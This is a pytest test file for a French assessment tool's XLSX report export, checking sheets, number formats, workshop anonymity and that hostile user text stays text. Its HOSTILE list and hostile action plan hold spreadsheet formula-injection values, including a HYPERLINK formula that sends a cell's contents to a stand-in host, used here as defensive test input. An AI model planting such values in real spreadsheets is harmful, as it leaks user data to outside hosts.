"""The XLSX workbook reopened with openpyxl and LibreOffice: sheets, formats, and no formula injection."""

from __future__ import annotations

import io
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from reports.model import ReportInput, build_report_input, build_workshop
from reports.xlsx import build_xlsx
from scoring.loader import Catalogue, default_catalogue, load_folder
from scoring.plan import Action
from tests.samples import sample_action_plan, sample_participants, sample_responses

MINI = Path(__file__).resolve().parents[1] / "unit" / "mini"
CASES = ("mini", "ess-territoires")
SHEETS = ["Synthèse", "Scores", "Réponses", "Recommandations", "Plan d'action"]
HOSTILE = ['=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")', "+1", "-2", "@SUM(A1)", "=1+1", "\t=cmd"]


@pytest.fixture(scope="module", params=CASES)
def case(request: pytest.FixtureRequest) -> tuple[Catalogue, str]:
    """The tiny test catalogue and the real questionnaire."""
    if request.param == "mini":
        return load_folder(MINI), "mini"
    return default_catalogue(), request.param


def _hostile_report(catalogue: Catalogue, qid: str) -> ReportInput:
    """Answers whose comments, name and action plan try to smuggle in spreadsheet formulas."""
    answers = sample_responses(catalogue, qid, name="=1+1 Communauté de communes")
    questions = [q.id for _, q in catalogue.questionnaire(qid).questions()]
    comments = {qid_: HOSTILE[i % len(HOSTILE)] for i, qid_ in enumerate(questions)}
    answers = answers.model_copy(update={"comments": comments})
    hostile = Action(
        id="evil",
        dimension_id=catalogue.questionnaire(qid).dimensions[0].id,
        what='=HYPERLINK("x")',
        lead="+33 6 00 00 00 00",
        other_partners="@evil",
        indicator="@SUM(A1:A9)",
        progress_note="-2+3",
    )
    plan = sample_action_plan(catalogue, answers).with_action(hostile)
    return build_report_input(catalogue, answers, plan, generated_on=date(2026, 11, 22))


def _open(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def test_workbook_has_the_five_sheets_with_frozen_bold_headers(case: tuple[Catalogue, str]) -> None:
    catalogue, qid = case
    wb = _open(build_xlsx(_hostile_report(catalogue, qid)))
    assert wb.sheetnames == SHEETS
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert all(cell.font.bold for cell in ws[1] if cell.value is not None)
        assert ws.column_dimensions["A"].width >= 8


def test_no_cell_is_a_formula_even_with_hostile_user_text(case: tuple[Catalogue, str]) -> None:
    catalogue, qid = case
    wb = _open(build_xlsx(_hostile_report(catalogue, qid)))
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} = {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    for text in HOSTILE:
        assert text in seen
    assert "=1+1 Communauté de communes" in seen
    assert '=HYPERLINK("x")' in seen and "@SUM(A1:A9)" in seen


def test_scores_sheet_has_one_row_per_dimension_with_number_formats(case: tuple[Catalogue, str]) -> None:
    catalogue, qid = case
    report = _hostile_report(catalogue, qid)
    ws = _open(build_xlsx(report))["Scores"]
    header = [c.value for c in ws[1]]
    assert ws.max_row == 1 + len(report.scores.dimensions)
    score_col, cover_col = header.index("Score") + 1, header.index("Couverture") + 1
    for row, ds in enumerate(report.scores.dimensions, start=2):
        assert ws.cell(row, header.index("Dimension") + 1).value == ds.dimension.title
        cell = ws.cell(row, score_col)
        if ds.score is None:
            assert cell.value is None
        else:
            assert cell.value == pytest.approx(ds.score, abs=0.05) and cell.number_format == "0.0"
        cover = ws.cell(row, cover_col)
        if ds.coverage is not None:
            assert cover.value == pytest.approx(ds.coverage / 100) and cover.number_format == "0%"


def test_answers_sheet_lists_every_question_with_level_label_and_comment(case: tuple[Catalogue, str]) -> None:
    catalogue, qid = case
    report = _hostile_report(catalogue, qid)
    ws = _open(build_xlsx(report))["Réponses"]
    header = [c.value for c in ws[1]]
    assert header[:7] == ["Code", "Dimension", "Question", "Réponse", "Niveau", "Libellé du niveau", "Commentaire"]
    questions = report.scores.questionnaire.questions()
    assert ws.max_row == 1 + len(questions)
    for row, (_, question) in enumerate(questions, start=2):
        value = report.responses.answers.get(question.id)
        assert ws.cell(row, 3).value == question.text
        if isinstance(value, int):
            assert ws.cell(row, 5).value == value
            assert ws.cell(row, 6).value == question.levels[value].label
        elif value == "dk":
            assert ws.cell(row, 4).value == "Je ne sais pas"
        assert ws.cell(row, 7).value == report.responses.comments.get(question.id)


def test_a_workshop_workbook_has_level_counts_mean_and_spread_and_no_column_per_participant() -> None:
    catalogue = default_catalogue()
    people, roles = sample_participants(catalogue, "ess-territoires", count=5)
    people = [p.model_copy(update={"profile": p.profile.model_copy(update={"name": "Jeanne Martin"})}) for p in people]
    agreed = sample_responses(catalogue, "ess-territoires")
    workshop = build_workshop(catalogue, "ess-territoires", people, roles, consolidated=agreed)
    wb = _open(build_xlsx(build_report_input(catalogue, agreed, workshop=workshop)))
    ws = wb["Réponses"]
    header = [c.value for c in ws[1]]
    assert header[3] == "Réponse retenue"
    assert not [h for h in header if "Participant" in str(h)]
    assert header[7:12] == [f"Niveau {level} (nombre)" for level in range(5)]
    assert header[-5:] == [
        "Je ne sais pas (nombre)",
        "Non concerné (nombre)",
        "Moyenne du groupe",
        "Écart (niveaux)",
        "Avis divergents",
    ]
    first_q = catalogue.questionnaire("ess-territoires").questions()[0][1].id
    stats = workshop.stats[first_q]
    row = [c.value for c in ws[2]]
    assert row[7:12] == [stats.levels.get(level, 0) for level in range(5)]
    assert sum(row[7:14]) == 5  # every participant counted once, none shown alone
    assert row[header.index("Moyenne du groupe")] == pytest.approx(stats.mean, abs=0.01)
    for sheet in wb.worksheets:
        for values in sheet.iter_rows(values_only=True):
            assert "Jeanne Martin" not in [str(v) for v in values]


def test_a_question_fewer_than_three_people_answered_has_no_group_figure_in_the_workbook() -> None:
    catalogue = default_catalogue()
    people, roles = sample_participants(catalogue, "ess-territoires", count=3)
    first_q = catalogue.questionnaire("ess-territoires").questions()[0][1].id
    people[0] = people[0].model_copy(update={"answers": {k: v for k, v in people[0].answers.items() if k != first_q}})
    agreed = sample_responses(catalogue, "ess-territoires")
    workshop = build_workshop(catalogue, "ess-territoires", people, roles, consolidated=agreed)
    ws = _open(build_xlsx(build_report_input(catalogue, agreed, workshop=workshop)))["Réponses"]
    row = [c.value for c in ws[2]]
    assert row[7:-1] == [None] * (len(row) - 8)
    assert row[-1] == "moins de 3 réponses"


def test_libreoffice_opens_the_workbook_and_keeps_hostile_text_as_text(tmp_path: Path) -> None:
    office = shutil.which("libreoffice") or shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")
    catalogue = load_folder(MINI)
    source = tmp_path / "rapport.xlsx"
    source.write_bytes(build_xlsx(_hostile_report(catalogue, "mini")))
    profile = tmp_path / "lo-profile"
    # CSV filter: « ; » separator, « " » quotes, UTF-8, from line 1, … , -1 = every sheet in its own file
    csv_filter = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,-1"
    done = subprocess.run(
        [
            office,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            csv_filter,
            "--outdir",
            str(tmp_path / "out"),
            str(source),
        ],
        capture_output=True,
        timeout=120,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
    )
    log = (done.stdout + done.stderr).decode("utf-8", "replace")
    sheets = {p.stem.removeprefix("rapport-"): p.read_text(encoding="utf-8") for p in (tmp_path / "out").glob("*.csv")}
    assert set(sheets) == set(SHEETS), log
    assert "=1+1 Communauté de communes" in sheets["Synthèse"]
    assert "Indice global" in sheets["Synthèse"]
    answers = sheets["Réponses"].splitlines()
    assert any(line.endswith(";+1") for line in answers)  # a formula or a number would print « 1 »
    assert any('"=HYPERLINK(""http://exemple.invalid/' in line for line in answers)
    assert any(line.endswith(";@SUM(A1)") for line in answers)
    assert "@SUM(A1:A9)" in sheets["Plan d'action"]


def test_the_spreadsheet_for_the_elected_officials_recommends_only_confirmed_fiches() -> None:
    catalogue = default_catalogue()
    report = build_report_input(catalogue, sample_responses(catalogue, "ess-territoires-express"))
    unconfirmed = [f.title for f in catalogue.fiches.fiches if not f.verified]
    wb = load_workbook(io.BytesIO(build_xlsx(report)))
    text = "\n".join(str(c.value) for row in wb["Recommandations"].iter_rows() for c in row if c.value is not None)
    assert "fiche n" in text and "titre non confirmé" not in text
    assert not any(title in text for title in unconfirmed)
